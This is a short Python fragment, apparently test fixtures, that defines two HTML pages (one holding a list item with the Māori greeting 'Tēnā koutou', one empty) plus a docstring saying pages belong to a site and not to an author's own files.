PAGES: dict[str, tuple[str, bytes]] = {
    "a page": ("a.html", "<!DOCTYPE html><html><body><ul><li>Tēnā koutou</li></ul></body></html>".encode()),
    "an empty page": ("a.html", b""),
}
"""Pages may be in a site, but not among an author's own files."""
